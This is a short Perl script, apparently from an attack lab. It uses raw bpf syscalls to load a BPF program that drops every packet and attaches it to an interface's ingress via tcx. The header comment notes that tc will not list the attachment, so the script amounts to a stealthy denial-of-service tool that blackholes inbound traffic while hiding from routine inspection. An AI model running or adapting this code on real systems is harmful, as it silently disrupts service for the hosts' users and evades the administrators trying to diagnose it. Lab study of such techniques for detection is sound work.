# Loads a program that drops everything and attaches it to the ingress of an interface by tcx, which tc does not list. Used by the attack lab only.
use strict; use warnings;
my ($index) = @ARGV; my $license = "GPL\0";
# mov r0, 2 (TCX_DROP); exit
my $code = pack('C C s l C C s l', 0xb7, 0, 0, 2, 0x95, 0, 0, 0);
# BPF_PROG_LOAD of type BPF_PROG_TYPE_SCHED_CLS, with a name; then BPF_PROG_ATTACH as BPF_TCX_INGRESS.
my $load = pack('L L P P L L Q L L a16', 3, 2, $code, $license, 0, 0, 0, 0, 0, 'drop_all');
my $fd = syscall(321, 5, $load, length $load); die "bpf: $!\n" if $fd < 0;
my $attach = pack('L6 Q', $index, $fd, 46, 0, 0, 0, 0);
syscall(321, 8, $attach, length $attach) == 0 or die "attach: $!\n";
